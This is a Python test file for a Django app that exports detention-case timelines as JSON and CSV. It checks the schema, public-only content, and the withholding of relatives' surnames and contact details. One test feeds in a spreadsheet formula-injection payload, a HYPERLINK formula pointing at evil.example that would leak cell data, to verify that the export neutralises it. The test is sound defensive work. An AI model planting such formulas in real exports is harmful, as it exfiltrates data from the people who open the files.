import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from campaigns.models import Relative
from detentions.models import Case, Event, EventKind, ReportedFigure
from detentions.page_cache import note_public_change
from tests.factories import (
    HIDDEN_TEXT,
    CaseFactory,
    CitationFactory,
    DetaineeFactory,
    EventFactory,
    KinshipFactory,
    ParticipationFactory,
    SourceFactory,
    case_with_hidden_facts,
    timeline_of_every_kind,
)

pytestmark = pytest.mark.django_db

DOCS = Path(__file__).resolve().parents[2] / "docs" / "timeline-json.md"


def json_url(case: Case) -> str:
    return reverse("detentions:case-timeline-json", kwargs={"slug": case.slug})


def csv_url(case: Case) -> str:
    return reverse("detentions:case-timeline-csv", kwargs={"slug": case.slug})


def documented_tables() -> dict[str, list[str]]:
    """The keys each `### \\`name\\`` section of the docs lists in its "key" or "column" table."""
    tables: dict[str, list[str]] = {}
    section = None
    in_table = False
    for line in DOCS.read_text(encoding="utf-8").splitlines():
        if heading := re.match(r"^#{2,3} (?:`(\w+)`|(CSV))$", line):
            section = heading.group(1) or heading.group(2)
            in_table = False
        elif line.startswith(("| key |", "| column |")):
            in_table = True
        elif in_table and (row := re.match(r"^\| `(\w+)` \|", line)):
            tables.setdefault(section, []).append(row.group(1))
        elif not line.startswith("|"):
            in_table = False
    return tables


def read_csv(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hidden():
    return case_with_hidden_facts()


class TestTimelineJson:
    def test_describes_the_case_and_its_public_events_in_date_order(self, client):
        case = CaseFactory(title="Twenty-seven held in Nukus")
        DetaineeFactory.create_batch(2, case=case)
        later = EventFactory(
            case=case, title="Consul visits", date_start=datetime.date(2009, 4, 10)
        )
        earlier = EventFactory(
            case=case,
            title="Detained at the border",
            date_precision="late_month",
            date_start=datetime.date(2009, 2, 21),
        )
        CitationFactory(
            event=earlier,
            source=SourceFactory(
                title="Human rights bulletin",
                url="https://example.org/b",
                published_on=datetime.date(2009, 5, 21),
            ),
        )

        response = client.get(json_url(case))

        assert response["Content-Type"] == "application/json; charset=utf-8"
        assert response["Content-Disposition"] == f'inline; filename="{case.slug}-timeline.json"'
        document = response.json()
        assert document["schema"] == "timeline/1"
        assert document["case"]["title"] == "Twenty-seven held in Nukus"
        assert document["case"]["url"] == f"http://testserver/cases/{case.slug}/"
        assert document["case"]["status"] == "detained"
        assert document["case"]["detaining_country"] == "UZ"
        assert document["case"]["began"] == {
            "start": "2009-02-21",
            "end": "2009-02-28",
            "precision": "late_month",
            "text": "late February 2009",
        }
        assert document["case"]["people"]["held"] == 2
        assert [event["id"] for event in document["events"]] == [earlier.pk, later.pk]
        first = document["events"][0]
        assert first["url"] == f"http://testserver/cases/{case.slug}/#event-{earlier.pk}"
        assert first["date"]["text"] == "late February 2009"
        assert first["sources"] == [
            {
                "title": "Human rights bulletin",
                "outlet": None,
                "url": "https://example.org/b",
                "published_on": "2009-05-21",
            }
        ]
        assert document["events"][1]["date"] == {
            "start": "2009-04-10",
            "end": "2009-04-10",
            "precision": "day",
            "text": "10 April 2009",
        }

    def test_has_the_documented_keys_for_every_kind(self, client):
        case = CaseFactory()
        timeline_of_every_kind(case, rounds=1)
        docs = documented_tables()

        document = client.get(json_url(case)).json()

        assert list(document) == docs["document"]
        assert list(document["case"]) == docs["case"]
        assert list(document["page"]) == docs["page"]
        assert list(document["case"]["people"]) == docs["people"]
        assert list(document["case"]["began"]) == docs["date"]
        assert {event["kind"] for event in document["events"]} == set(EventKind.values)
        for event in document["events"]:
            assert list(event) == docs["event"]
            assert list(event["date"]) == docs["date"]
            assert list(event["details"]) == docs.get(event["kind"], []), event["kind"]
            assert len(event["sources"]) == 2
            for source in event["sources"]:
                assert list(source) == docs["source"]

    def test_names_people_only_by_their_public_names(self, client):
        case = CaseFactory()
        events = {event.kind: event for event in timeline_of_every_kind(case, rounds=1)}
        detainee = case.detainees.first()
        detainee.name_latin = "Serik Abenov"
        detainee.save()
        kinship = KinshipFactory(
            detainee=detainee,
            relative__given_name="Aigul",
            relative__family_name="Seitova",
            relative__name_display=Relative.NameDisplay.GIVEN_NAME,
        )
        ParticipationFactory(
            event=events[EventKind.ACCESS_ATTEMPT], organisation=None, relative=kinship.relative
        )

        response = client.get(json_url(case))

        details = {event["kind"]: event["details"] for event in response.json()["events"]}
        withheld = f"Detainee {detainee.reference}, name withheld"
        assert withheld in details[EventKind.STATUS_CHANGE]["detainees"]
        assert withheld in details[EventKind.CONSULAR_VISIT]["detainees_seen"]
        assert details[EventKind.ACCESS_ATTEMPT]["participants"] == ["Aigul"]
        assert details[EventKind.CONSULAR_VISIT]["consul"]["role"] == "Consul"
        assert details[EventKind.OFFICIAL_CONTACT]["outcome"] == "awaiting"
        assert details[EventKind.OFFICIAL_CONTACT]["outcome_label"] == "awaiting a reply"
        body = response.content.decode()
        assert "Serik" not in body
        assert "Seitova" not in body
        assert kinship.relative.phone not in body
        assert kinship.relative.email not in body

    def test_leaves_out_everything_not_public(self, client, hidden):
        response = client.get(json_url(hidden))
        assert [event["title"] for event in response.json()["events"]] == ["Verified public fact"]
        body = response.content.decode()
        assert "Public bulletin" in body
        for text in HIDDEN_TEXT:
            assert text not in body

    def test_keeps_cyrillic_readable(self, client):
        case = CaseFactory()
        EventFactory(case=case, title="Задержаны на границе")
        assert "Задержаны на границе" in client.get(json_url(case)).content.decode()

    def test_updated_at_follows_an_edit(self, client):
        case = CaseFactory()
        event = EventFactory(case=case)
        before = client.get(json_url(case)).json()["events"][0]["updated_at"]
        edited = (timezone.now() + datetime.timedelta(hours=1)).replace(microsecond=0)
        Event.objects.filter(pk=event.pk).update(updated_at=edited)
        note_public_change()  # what a save would do; this test sets the time around save()

        after = client.get(json_url(case)).json()["events"][0]["updated_at"]

        assert after != before
        assert datetime.datetime.fromisoformat(after) == edited

    def test_an_unpublished_or_unknown_case_is_not_found(self, client):
        draft = CaseFactory(is_published=False)
        EventFactory(case=draft)
        assert client.get(json_url(draft)).status_code == 404
        missing = reverse("detentions:case-timeline-json", kwargs={"slug": "nope"})
        assert client.get(missing).status_code == 404

    def test_answers_head_and_refuses_writes(self, client):
        case = CaseFactory()
        assert client.head(json_url(case)).status_code == 200
        assert client.post(json_url(case)).status_code == 405

    @pytest.mark.parametrize("rounds", [1, 6])
    def test_runs_a_fixed_number_of_queries(self, client, rounds, django_assert_max_num_queries):
        case = CaseFactory()
        timeline_of_every_kind(case, rounds=rounds)
        with django_assert_max_num_queries(10):
            response = client.get(json_url(case))
        assert len(response.json()["events"]) == rounds * len(EventKind)


class TestTimelineCsv:
    def test_has_one_row_per_public_event_in_date_order(self, client):
        case = CaseFactory()
        later = EventFactory(
            case=case, title="Consul visits", date_start=datetime.date(2009, 4, 10)
        )
        earlier = EventFactory(
            case=case,
            kind=EventKind.REPORTED_FIGURE,
            title="Seven escaped",
            date_precision="late_month",
            date_start=datetime.date(2009, 2, 21),
        )
        ReportedFigure.objects.create(event=earlier, measure="escaped", value=7)
        CitationFactory(
            event=earlier, source=SourceFactory(title="Bulletin", url="https://example.org/b")
        )
        CitationFactory(event=earlier, source=SourceFactory(title="Radio report", url=""))

        response = client.get(csv_url(case))

        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == (
            f'attachment; filename="{case.slug}-timeline.csv"'
        )
        assert response.content.startswith("\ufeff".encode())
        rows = read_csv(response)
        assert list(rows[0]) == documented_tables()["CSV"]
        assert [row["id"] for row in rows] == [str(earlier.pk), str(later.pk)]
        assert rows[0] == {
            "id": str(earlier.pk),
            "date_start": "2009-02-21",
            "date_end": "2009-02-28",
            "date_precision": "late_month",
            "date_text": "late February 2009",
            "kind": "reported_figure",
            "title": "Seven escaped",
            "description": "What happened, in the recorder's own words.",
            "details": "What was counted: escaped; figure: 7",
            "sources": "Bulletin (https://example.org/b) | Radio report",
            "url": f"http://testserver/cases/{case.slug}/#event-{earlier.pk}",
        }

    def test_neutralises_spreadsheet_formulas(self, client):
        case = CaseFactory()
        # Dated, so that the rows come in this order: the factory's dates wrap around after
        # 200 events, and a full run of the suite made the third the earliest.
        EventFactory(
            case=case,
            date_start=datetime.date(2009, 3, 1),
            title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
            description="+1 more detained",
        )
        EventFactory(
            case=case,
            date_start=datetime.date(2009, 3, 2),
            title="@SUM(A1)",
            description="-2 released",
        )
        EventFactory(
            case=case,
            date_start=datetime.date(2009, 3, 3),
            title="\tTabbed",
            description="Plain = text",
        )

        rows = read_csv(client.get(csv_url(case)))

        assert [row["title"] for row in rows] == [
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
            "'@SUM(A1)",
            "'\tTabbed",
        ]
        assert [row["description"] for row in rows] == [
            "'+1 more detained",
            "'-2 released",
            "Plain = text",
        ]

    def test_summarises_every_kind_in_words(self, client):
        case = CaseFactory()
        timeline_of_every_kind(case, rounds=1)
        rows = {row["kind"]: row for row in read_csv(client.get(csv_url(case)))}
        first, second = [d.public_name for d in case.detainees.order_by("reference")]
        attempt = rows["access_attempt"]["details"]
        assert attempt.startswith("Who tried: relative; what for: parcel")
        assert "; outcome: refused; " in attempt
        assert attempt.endswith(f"to see or reach: {first} / {second}")
        assert rows["official_contact"]["details"].startswith("Institution: ")
        assert rows["consular_visit"]["details"].startswith("Consul: Official ")
        assert "(Consul, " in rows["consular_visit"]["details"]
        assert rows["note"]["details"] == ""

    def test_leaves_out_everything_not_public(self, client, hidden):
        response = client.get(csv_url(hidden))
        assert [row["title"] for row in read_csv(response)] == ["Verified public fact"]
        body = response.content.decode("utf-8-sig")
        for text in HIDDEN_TEXT:
            assert text not in body

    def test_an_unpublished_case_is_not_found(self, client):
        assert client.get(csv_url(CaseFactory(is_published=False))).status_code == 404

    def test_refuses_writes(self, client):
        assert client.post(csv_url(CaseFactory())).status_code == 405

    @pytest.mark.parametrize("rounds", [1, 6])
    def test_runs_a_fixed_number_of_queries(self, client, rounds, django_assert_max_num_queries):
        case = CaseFactory()
        timeline_of_every_kind(case, rounds=rounds)
        with django_assert_max_num_queries(10):
            response = client.get(csv_url(case))
        assert len(read_csv(response)) == rounds * len(EventKind)


class TestDemoCase:
    """The founding case, as `load_demo` builds it, with a relative given a surname and contacts
    that no download may show."""

    @pytest.fixture
    def demo(self):
        call_command("load_demo", verbosity=0)
        case = Case.objects.get(slug="nukus-27")
        janara = Relative.objects.get(given_name="Janara")
        janara.family_name = "Zhaksylykova"
        janara.phone = "+7 701 555 12 34"
        janara.email = "janara.private@example.org"
        janara.address = "12 Abay Avenue, Aktobe"
        janara.save()
        contact = case.events.filter(kind=EventKind.OFFICIAL_CONTACT, is_public=True).first()
        ParticipationFactory(event=contact, organisation=None, relative=janara)
        return case

    def test_json_keeps_both_escape_figures(self, client, demo):
        events = client.get(json_url(demo)).json()["events"]
        escapes = [
            event["details"]["value"]
            for event in events
            if event["kind"] == "reported_figure" and event["details"]["measure"] == "escaped"
        ]
        assert escapes == [7, 6]

    @pytest.mark.parametrize("name", ["case-timeline-json", "case-timeline-csv", "case-feed"])
    def test_names_janara_by_given_name_only_and_no_contact_details(self, client, demo, name):
        body = client.get(reverse(f"detentions:{name}", kwargs={"slug": demo.slug})).content.decode(
            "utf-8-sig"
        )
        relatives = Relative.objects.all()
        if name != "case-feed":  # the feed does not list who took part
            assert "Janara" in body
        assert "Zhaksylykova" not in body
        for relative in relatives:
            for private in (relative.phone, relative.email, relative.address, relative.messenger):
                assert not private or private not in body
        assert "Demo (internal)" not in body
        assert "whole report" not in body
